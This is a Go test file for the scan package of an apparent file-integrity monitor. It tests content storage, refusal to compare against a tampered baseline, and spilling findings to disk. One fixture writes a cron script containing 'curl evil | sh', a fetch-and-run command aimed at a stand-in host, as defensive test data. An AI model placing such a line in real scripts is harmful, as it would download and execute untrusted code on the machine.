package scan

import (
	"context"
	"crypto/sha256"
	"database/sql"
	"encoding/hex"
	"errors"
	"fmt"
	"strings"
	"testing"

	"github.com/tripline/tripline/baseline"
	"github.com/tripline/tripline/policy"
	"github.com/tripline/tripline/store"
)

func shaOf(s string) string {
	b := sha256.Sum256([]byte(s))
	return hex.EncodeToString(b[:])
}

// The contents a scan stores are those it hashed, read once by the hashing workers: the first
// scan stores every file's, a later scan the new content of a changed file, and --no-content
// none.
func TestScanStoresContents(t *testing.T) {
	ctx := context.Background()
	e := newEnv(t)
	e.scan()
	for _, c := range []string{"#!/bin/sh\n", "#!/bin/sh\necho b\n", "[Unit]\n", "[Service]\n"} {
		if got, err := e.db.Content(ctx, shaOf(c)); err != nil || string(got) != c {
			t.Errorf("content %q after the first scan: %q, %v", c, got, err)
		}
	}
	if _, err := e.db.Content(ctx, shaOf("not covered\n")); !errors.Is(err, store.ErrNoContent) {
		t.Errorf("a file outside every location: %v, want ErrNoContent", err)
	}
	e.write("etc/cron.daily/a", "#!/bin/sh\ncurl evil | sh\n", 0o755)
	e.scan()
	if got, err := e.db.Content(ctx, shaOf("#!/bin/sh\ncurl evil | sh\n")); err != nil || string(got) != "#!/bin/sh\ncurl evil | sh\n" {
		t.Errorf("the changed content after the second scan: %q, %v", got, err)
	}
	e.write("etc/cron.daily/a", "#!/bin/sh\nanother\n", 0o755)
	e.scan(func(o *Options) { o.NoContent = true })
	if _, err := e.db.Content(ctx, shaOf("#!/bin/sh\nanother\n")); !errors.Is(err, store.ErrNoContent) {
		t.Errorf("with NoContent: %v, want ErrNoContent", err)
	}
}

// A check verifies the baseline against its seal from the rows it compares against: an edited
// row fails the scan, which records nothing.
func TestScanRefusesEditedBaseline(t *testing.T) {
	e := newEnv(t)
	e.scan()
	before := e.historyRows()
	w, err := sql.Open("sqlite3", e.dbf)
	if err != nil {
		t.Fatal(err)
	}
	defer w.Close()
	if _, err := w.Exec("UPDATE baseline SET mode = 2541 WHERE path = '/etc/cron.daily/b'"); err != nil {
		t.Fatal(err)
	}
	e.write("etc/cron.daily/a", "#!/bin/sh\nchanged\n", 0o755)
	_, err = Run(context.Background(), Options{Root: e.root, Policy: e.pol, DB: e.db, By: "test"})
	if !errors.Is(err, store.ErrBaselineEdited) || !strings.Contains(err.Error(), "/etc/cron.daily/b") || !strings.Contains(err.Error(), "refusing to compare") {
		t.Fatalf("scan against an edited baseline: %v", err)
	}
	if n := e.historyRows(); n != before {
		t.Errorf("%d history rows after the refused scan, want %d", n, before)
	}
}

// Past findingsInMemory the findings go to a temporary file and come back whole and in order.
func TestFindingsSpill(t *testing.T) {
	e := newEnv(t)
	e.scan()
	const n = findingsInMemory + 250
	for i := 0; i < n; i++ {
		e.write(fmt.Sprintf("etc/cron.daily/new%04d", i), "#!/bin/sh\n", 0o755)
	}
	res := e.scan()
	defer res.Close()
	if res.Findings.Len() != n || res.Findings.file == nil {
		t.Fatalf("%d findings (spilled: %v), want %d spilled past %d", res.Findings.Len(), res.Findings.file != nil, n, findingsInMemory)
	}
	for pass := 0; pass < 2; pass++ {
		i := 0
		err := res.Findings.Each(func(f *policy.Finding) error {
			want := fmt.Sprintf("/etc/cron.daily/new%04d", i)
			if f.Change.Path != want || f.Change.Kind != baseline.Created || f.Location == nil || f.Location.ID != "cron-periodic" ||
				f.Rule() == "" || f.Change.New == nil || f.Change.New.SHA256 != shaOf("#!/bin/sh\n") {
				t.Fatalf("pass %d, finding %d: %+v", pass, i, f)
			}
			i++
			return nil
		})
		if err != nil || i != n {
			t.Fatalf("pass %d: %d findings read back, %v", pass, i, err)
		}
	}
}
